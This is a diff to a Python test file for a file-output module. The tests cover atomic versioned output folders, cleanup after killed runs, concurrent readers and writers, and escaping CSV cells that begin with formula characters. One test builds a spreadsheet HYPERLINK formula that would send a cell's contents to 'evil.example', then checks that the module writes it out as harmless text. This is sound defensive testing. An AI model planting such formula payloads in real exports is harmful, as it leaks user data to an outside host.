@@ -1,57 +1,181 @@
-"""Tests for jags.files: all-or-nothing output and deterministic CSV."""
+"""Tests for jags.files: all-or-nothing output folders, kills, and CSV that is never a formula."""
 
 from __future__ import annotations
 
+import csv
+import io
+import os
+import shutil
+import subprocess
+import sys
+import textwrap
 from datetime import date, datetime, timedelta, timezone
+from enum import StrEnum
 from pathlib import Path
 
 import pytest
 
-from jags.files import csv_bytes, write_outputs
+from allocator.errors import InputError
+from jags.files import (
+    FORMULA_PREFIXES,
+    KEEP_VERSIONS,
+    KILL_AFTER_ENV,
+    OutputsChangedError,
+    csv_bytes,
+    current_version,
+    safe_text,
+    write_outputs,
+)
+from jags.generate import generate_workspace, write_workspace
+
+ROOT = Path(__file__).resolve().parent.parent
 
 
 def snapshot(folder: Path) -> dict[str, bytes]:
-    """Every file under ``folder`` (relative name → content)."""
+    """Every file under ``folder`` (relative name → content); {} when it does not exist."""
+    if not folder.exists():
+        return {}
     return {p.relative_to(folder).as_posix(): p.read_bytes()
             for p in sorted(folder.rglob("*")) if p.is_file()}
 
 
-def test_writes_all_files_and_creates_folders(tmp_path: Path) -> None:
+def leftovers(out: Path) -> list[str]:
+    """Staging folders and pointer links a run left behind."""
+    container = out.parent / f".{out.name}.versions"
+    found = [p.name for p in container.glob("*.staging")] if container.exists() else []
+    return found + [p.name for p in out.parent.glob(f".{out.name}.pointer-*")]
+
+
+def versions(out: Path) -> list[str]:
+    container = out.parent / f".{out.name}.versions"
+    return sorted(p.name for p in container.iterdir() if p.name.startswith("v"))
+
+
+# The pointer and its versions -------------------------------------------------------------
+
+
+def test_writes_all_files_behind_a_pointer(tmp_path: Path) -> None:
     out = tmp_path / "runs" / "out"
     paths = write_outputs(out, {"allocations.csv": b"a\n", "invites/R-001.ics": b"ics"})
     assert paths == [out / "allocations.csv", out / "invites" / "R-001.ics"]
     assert snapshot(out) == {"allocations.csv": b"a\n", "invites/R-001.ics": b"ics"}
-    assert sorted(p.name for p in out.parent.iterdir()) == ["out"]  # no temporary folder left
+    assert out.is_symlink() and os.readlink(out) == ".out.versions/v000001"
+    assert sorted(p.name for p in out.parent.iterdir()) == [".out.versions", "out"]
+    assert current_version(out) == tmp_path / "runs" / ".out.versions" / "v000001"
+    assert leftovers(out) == []
 
 
-def test_replaces_same_names_and_keeps_others(tmp_path: Path) -> None:
-    (tmp_path / "invites").mkdir()
-    (tmp_path / "notes.txt").write_bytes(b"mine")
-    (tmp_path / "allocations.csv").write_bytes(b"old")
-    (tmp_path / "invites" / "R-000.ics").write_bytes(b"older invite")
-    write_outputs(tmp_path, {"allocations.csv": b"new", "invites/R-001.ics": b"ics"})
-    assert snapshot(tmp_path) == {"allocations.csv": b"new", "invites/R-000.ics": b"older invite",
-                                  "invites/R-001.ics": b"ics", "notes.txt": b"mine"}
+def test_each_run_replaces_the_whole_result_and_old_versions_are_pruned(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    write_outputs(out, {"allocations.csv": b"1", "allocations.xlsx": b"book 1"})
+    first = current_version(out)
+    write_outputs(out, {"allocations.csv": b"2"})
+    assert snapshot(out) == {"allocations.csv": b"2"}  # no stale workbook beside new CSV
+    assert snapshot(first) == {"allocations.csv": b"1", "allocations.xlsx": b"book 1"}
+    for n in range(3, 6):
+        write_outputs(out, {"allocations.csv": str(n).encode()})
+    assert snapshot(out) == {"allocations.csv": b"5"}
+    assert versions(out) == ["v000004", "v000005"]
+    assert len(versions(out)) == KEEP_VERSIONS
+
+
+def test_based_on_keeps_the_earlier_files_and_adds_the_changes(tmp_path: Path) -> None:
+    out = tmp_path / "schedule"
+    write_outputs(out, {"schedule.json": b"{1}", "invites/R-1.ics": b"one",
+                        "invites/R-2.ics": b"two"})
+    base = current_version(out)
+    write_outputs(out, {"schedule.json": b"{2}", "invites/R-2.ics": b"moved"}, based_on=base)
+    assert snapshot(out) == {"schedule.json": b"{2}", "invites/R-1.ics": b"one",
+                             "invites/R-2.ics": b"moved"}
+    assert snapshot(base)["invites/R-2.ics"] == b"two"  # the earlier version is untouched
+
+
+def test_based_on_a_stale_version_changes_nothing(tmp_path: Path) -> None:
+    out = tmp_path / "schedule"
+    write_outputs(out, {"schedule.json": b"{1}"})
+    base = current_version(out)
+    write_outputs(out, {"schedule.json": b"{other command}"}, based_on=base)
+    before = snapshot(out)
+    with pytest.raises(OutputsChangedError, match="run it again"):
+        write_outputs(out, {"schedule.json": b"{lost update}"}, based_on=base)
+    assert snapshot(out) == before
+    assert leftovers(out) == []
+
+
+def test_a_plain_folder_from_an_earlier_release_is_kept_aside(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    (out / "invites").mkdir(parents=True)
+    (out / "allocations.csv").write_bytes(b"old")
+    (out / "allocations.xlsx").write_bytes(b"old book")
+    (out / "invites" / "R-0.ics").write_bytes(b"old invite")
+    old = snapshot(out)
+    write_outputs(out, {"allocations.csv": b"new"})
+    assert out.is_symlink()
+    assert snapshot(out) == {"allocations.csv": b"new"}
+    assert snapshot(tmp_path / ".out.versions" / "legacy") == old
+    for n in range(4):  # never pruned
+        write_outputs(out, {"allocations.csv": str(n).encode()})
+    assert snapshot(tmp_path / ".out.versions" / "legacy") == old
+
+
+def test_a_plain_folder_with_other_files_is_refused(tmp_path: Path,
+                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+    out = tmp_path / "project"
+    out.mkdir()
+    (out / "allocations.csv").write_bytes(b"old")
+    (out / "notes about CASE-1.docx").write_bytes(b"mine")
+    with pytest.raises(InputError, match="holds 1 file") as error:
+        write_outputs(out, {"allocations.csv": b"new"})
+    assert "CASE-1" not in str(error.value)
+    monkeypatch.chdir(out)
+    (out / "notes about CASE-1.docx").unlink()
+    for here in (Path("."), Path("..")):
+        with pytest.raises(InputError, match="current folder"):
+            write_outputs(here, {"allocations.csv": b"new"})
+    assert snapshot(tmp_path) == {"project/allocations.csv": b"old"}
+
+
+def test_updating_a_plain_folder_carries_its_files(tmp_path: Path) -> None:
+    out = tmp_path / "schedule"
+    (out / "invites").mkdir(parents=True)
+    (out / "schedule.json").write_bytes(b"{1}")
+    (out / "invites" / "R-1.ics").write_bytes(b"one")
+    write_outputs(out, {"schedule.json": b"{2}"}, based_on=current_version(out))
+    assert snapshot(out) == {"schedule.json": b"{2}", "invites/R-1.ics": b"one"}
 
 
 def test_failure_while_writing_changes_nothing(tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
     out = tmp_path / "out"
-    out.mkdir()
-    (out / "allocations.csv").write_bytes(b"old")
-    real_write = Path.write_bytes
+    write_outputs(out, {"allocations.csv": b"old"})
+    real_open = Path.open
 
-    def failing_write(self: Path, data: bytes) -> int:
+    def failing_open(self: Path, *args: object, **kwargs: object) -> object:
         if self.name == "proposals.csv":
             raise OSError(28, "No space left on device")
-        return real_write(self, data)
+        return real_open(self, *args, **kwargs)  # type: ignore[call-overload]
 
-    monkeypatch.setattr(Path, "write_bytes", failing_write)
+    monkeypatch.setattr(Path, "open", failing_open)
     with pytest.raises(OSError, match="No space"):
         write_outputs(out, {"allocations.csv": b"new", "invites/R-1.ics": b"x",
                             "proposals.csv": b"p"})
+    monkeypatch.undo()
     assert snapshot(out) == {"allocations.csv": b"old"}
-    assert [p.name for p in tmp_path.iterdir()] == ["out"]
+    assert leftovers(out) == []
+    assert versions(out) == ["v000001"]
+
+
+def test_staging_left_by_a_killed_run_is_cleaned_up(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    write_outputs(out, {"a.csv": b"1"})
+    container = tmp_path / ".out.versions"
+    (container / "v000002.staging" / "invites").mkdir(parents=True)
+    (container / "v000002.staging" / "invites" / "R-1.ics").write_bytes(b"half")
+    os.symlink(".out.versions/v000002", tmp_path / ".out.pointer-99999")
+    assert len(leftovers(out)) == 2
+    write_outputs(out, {"a.csv": b"3"})
+    assert leftovers(out) == []
+    assert snapshot(out) == {"a.csv": b"3"}  # nothing of the half-written run
 
 
 @pytest.mark.parametrize("name", ["../escape.csv", "/abs.csv", "a/b/c.csv", "", "a\\b.csv",
@@ -62,14 +186,185 @@ def test_bad_names_are_refused_before_writing(tmp_path: Path, name: str) -> None
     assert list(tmp_path.iterdir()) == []
 
 
-def test_folder_in_the_way_is_refused_before_writing(tmp_path: Path) -> None:
-    (tmp_path / "invites.csv").mkdir()
-    with pytest.raises(IsADirectoryError):
-        write_outputs(tmp_path, {"a.csv": b"1", "invites.csv": b"2"})
-    (tmp_path / "invites").write_bytes(b"a file")
-    with pytest.raises(NotADirectoryError):
-        write_outputs(tmp_path, {"a.csv": b"1", "invites/R-1.ics": b"2"})
-    assert snapshot(tmp_path) == {"invites": b"a file"}
+def test_a_file_in_the_way_is_an_input_error(tmp_path: Path) -> None:
+    (tmp_path / "out").write_bytes(b"a file")
+    with pytest.raises(InputError, match="not a folder"):
+        write_outputs(tmp_path / "out", {"a.csv": b"1"})
+    with pytest.raises(InputError, match="not a folder"):
+        write_outputs(tmp_path / "out" / "deeper", {"a.csv": b"1"})
+    assert snapshot(tmp_path) == {"out": b"a file"}
+
+
+# Real processes: kills and concurrent readers and writers -------------------------------
+
+
+def run(*args: str | Path, kill_after: int | None = None, cwd: Path | None = None,
+        ) -> subprocess.CompletedProcess[str]:
+    env = {k: v for k, v in os.environ.items() if k != KILL_AFTER_ENV}
+    if kill_after is not None:
+        env[KILL_AFTER_ENV] = str(kill_after)
+    return subprocess.run([sys.executable, *map(str, args)], capture_output=True, text=True,
+                          env=env, cwd=cwd or ROOT, timeout=300, check=False)
+
+
+def jags_run(*args: str | Path, kill_after: int | None = None,
+             ) -> subprocess.CompletedProcess[str]:
+    return run("-m", "jags.cli", *args, kill_after=kill_after)
+
+
+def kill_at_every_step(out: Path, command: tuple[str | Path, ...], old: dict[str, bytes],
+                       new: dict[str, bytes], steps: int) -> None:
+    """Kill ``command`` after each writer step (each file staged, the version renamed, the
+    new pointer made, the pointer swapped); the folder always shows old or new, whole.
+    Before each run the folder is put back to ``old`` (as a new version) if it moved on."""
+    assert old != new
+    saw_staging = False
+    for n in range(1, steps):
+        if snapshot(out) != old:
+            write_outputs(out, old)
+        done = jags_run(*command, kill_after=n)
+        assert done.returncode == -9, (n, done.stderr)
+        seen = snapshot(out)
+        assert seen in (old, new), f"a mix after a kill at step {n}: {sorted(seen)}"
+        saw_staging |= any(name.endswith(".staging") for name in leftovers(out))
+    assert saw_staging, "no kill landed while files were being staged"
+    if snapshot(out) != old:
+        write_outputs(out, old)
+    done = jags_run(*command)
+    assert done.returncode == 0, done.stderr
+    assert snapshot(out) == new
+    assert leftovers(out) == []
+    assert len(versions(out)) <= KEEP_VERSIONS
+
+
+def test_allocate_killed_at_every_file_boundary(tmp_path: Path, sample_dir: Path) -> None:
+    out = tmp_path / "out"
+    assert jags_run("allocate", sample_dir, "--on", "2026-11-20", "--out", out).returncode == 0
+    old = snapshot(out)
+    reference = tmp_path / "reference"
+    command = ("allocate", sample_dir, "--on", "2026-11-23", "--format", "xlsx", "--out")
+    assert jags_run(*command, reference).returncode == 0
+    new = snapshot(reference)
+    assert sorted(new) == ["allocations.csv", "allocations.xlsx", "explanations.csv",
+                           "facilitator_status.csv"]
+    # 3 files, the version rename, the new pointer, the swap, the pruning.
+    kill_at_every_step(out, (*command, out), old, new, steps=len(new) + 4)
+
+
+@pytest.fixture(scope="module")
+def small_schedule(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
+    """A small workspace (no calendars) and its allocations."""
+    folder = tmp_path_factory.mktemp("small")
+    workspace = folder / "workspace"
+    write_workspace(generate_workspace(4, 12, seed=5, with_gaps=False), workspace)
+    done = jags_run("allocate", workspace, "--on", "2026-11-23", "--out", folder / "allocated")
+    assert done.returncode == 0, done.stderr
+    return workspace, folder / "allocated" / "allocations.csv"
+
+
+def test_schedule_killed_at_every_file_boundary(tmp_path: Path,
+                                                small_schedule: tuple[Path, Path]) -> None:
+    workspace, allocations = small_schedule
+    out = tmp_path / "out"
+    command = ("schedule", workspace, "--allocations", allocations, "--out")
+    assert jags_run(*command, out, "--confirmed-on", "2026-11-27").returncode == 0
+    old = snapshot(out)
+    reference = tmp_path / "reference"
+    assert jags_run(*command, reference, "--confirmed-on", "2026-11-30").returncode == 0
+    new = snapshot(reference)
+    assert len([n for n in new if n.startswith("invites/")]) >= 4
+    kill_at_every_step(out, (*command, out, "--confirmed-on", "2026-11-30"), old, new,
+                       steps=len(new) + 4)
+
+
+def test_invite_killed_at_every_file_boundary(tmp_path: Path,
+                                              small_schedule: tuple[Path, Path]) -> None:
+    workspace, allocations = small_schedule
+    out = tmp_path / "out"
+    assert jags_run("schedule", workspace, "--allocations", allocations, "--out", out,
+                    "--confirmed-on", "2026-11-30").returncode == 0
+    old = snapshot(out)
+    reference = tmp_path / "reference"
+    shutil.copytree(out, reference)
+    rid = sorted(n.removeprefix("invites/").removesuffix(".ics") for n in old
+                 if n.endswith(".ics"))[0]
+    command = ("invite", reference, "--choose", f"{rid}=2", "--on", "2026-12-01")
+    assert jags_run(*command).returncode == 0
+    new = snapshot(reference)
+    changed = {name for name in new if new[name] != old.get(name)}
+    assert changed == {"schedule.json", f"invites/{rid}.ics", f"invites/{rid}.eml"}
+    assert set(new) == set(old)  # every earlier invitation is still there
+    kill_at_every_step(out, ("invite", out, "--choose", f"{rid}=2", "--on", "2026-12-01"),
+                       old, new, steps=len(changed) + 4)
+
+
+WRITER = textwrap.dedent("""
+    import sys
+    from pathlib import Path
+    from jags.files import write_outputs
+    out, tag, count = Path(sys.argv[1]), sys.argv[2], int(sys.argv[3])
+    for n in range(count):
+        token = f"{tag}-{n}".encode()
+        write_outputs(out, {"allocations.csv": token, "explanations.csv": token,
+                            "invites/R-1.ics": token})
+""")
+
+
+def test_a_killed_upgrade_of_a_plain_folder_never_shows_a_mix(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    old = {"allocations.csv": b"old", "explanations.csv": b"old", "allocations.xlsx": b"book"}
+    script = tmp_path / "writer.py"
+    script.write_text(WRITER, "utf-8")
+
+    for n in range(1, 8):  # 3 files, rename, pointer, legacy moved aside, swap
+        shutil.rmtree(tmp_path / ".out.versions", ignore_errors=True)
+        if out.is_symlink():
+            out.unlink()
+        shutil.rmtree(out, ignore_errors=True)
+        out.mkdir()
+        for name, content in old.items():
+            (out / name).write_bytes(content)
+        done = run(script, out, "new", "1", kill_after=n)
+        seen = snapshot(out)
+        assert seen in ({}, old, {k: b"new-0" for k in ("allocations.csv", "explanations.csv",
+                                                          "invites/R-1.ics")}), (n, seen)
+        if not seen:  # killed between moving the old folder aside and the swap
+            assert snapshot(tmp_path / ".out.versions" / "legacy") == old
+        assert done.returncode == -9, done.stderr
+
+
+def test_readers_never_see_a_mix_while_writers_run(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    script = tmp_path / "writer.py"
+    script.write_text(WRITER, "utf-8")
+    write_outputs(out, {"allocations.csv": b"first", "explanations.csv": b"first",
+                        "invites/R-1.ics": b"first"})
+    writers = [subprocess.Popen([sys.executable, str(script), str(out), tag, "60"], cwd=ROOT)
+               for tag in ("a", "b")]
+    reads = 0
+    try:
+        while any(w.poll() is None for w in writers):
+            folder = current_version(out)
+            try:
+                seen = {(folder / n).read_bytes()
+                        for n in ("allocations.csv", "explanations.csv", "invites/R-1.ics")}
+            except FileNotFoundError:  # that version was pruned meanwhile: read again
+                continue
+            assert len(seen) == 1, seen
+            assert (out / "allocations.csv").read_bytes()  # never a missing or empty file
+            reads += 1
+    finally:
+        for w in writers:
+            w.wait(timeout=120)
+    assert [w.returncode for w in writers] == [0, 0]
+    assert reads > 0
+    final = snapshot(out)
+    assert len(set(final.values())) == 1 and next(iter(final.values())).endswith(b"-59")
+    assert leftovers(out) == []
+    assert len(versions(out)) == KEEP_VERSIONS
+
+
+# CSV ------------------------------------------------------------------------------------
 
 
 def test_csv_bytes_is_deterministic() -> None:
@@ -86,3 +381,33 @@ def test_csv_bytes_is_deterministic() -> None:
     )
     assert csv_bytes(["request_id", "note", "eligible", "on", "score"], iter(rows)) == data
     assert csv_bytes(["naïve"], [["café"]]) == "naïve\ncafé\n".encode()
+
+
+class Colour(StrEnum):
+    ODD = "=odd"
+
+
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
+def test_text_starting_with_a_formula_character_is_written_as_text(prefix: str) -> None:
+    hostile = f'{prefix}HYPERLINK("http://evil.example/?leak="&B2,"Click")'
+    data = csv_bytes(["id", "text", "number", "day", "flag"],
+                     [[f"{prefix}R1", hostile, -3, date(2026, 1, 2), False], [Colour.ODD, "", -2.5,
+                                                                               None, True]])
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+    lf = prefix.replace("\r", "\n")  # a carriage return is written as a line feed
+    assert rows[1] == [f"'{lf}R1", f"'{lf}{hostile[1:]}", "-3", "2026-01-02", "false"]
+    assert rows[2] == ["'=odd", "", "-2.5", "", "true"]  # numbers stay numbers
+    assert not any(cell.startswith(FORMULA_PREFIXES) for row in rows for cell in row
+                   if not cell.lstrip("-").replace(".", "").isdigit())
+
+
+def test_line_breaks_never_split_a_row() -> None:
+    data = csv_bytes(["a", "b"], [["one\rtwo\r\nthree", "x"]])
+    assert list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""))) == [
+        ["a", "b"], ["one\ntwo\nthree", "x"]]
+
+
+def test_safe_text_leaves_ordinary_text_alone() -> None:
+    assert [safe_text(t) for t in ("R-0001", "Allocated to F001", "", "'quoted", "a=b")] == [
+        "R-0001", "Allocated to F001", "", "'quoted", "a=b"]
+    assert safe_text("-1") == "'-1"  # text that looks like a number is still text
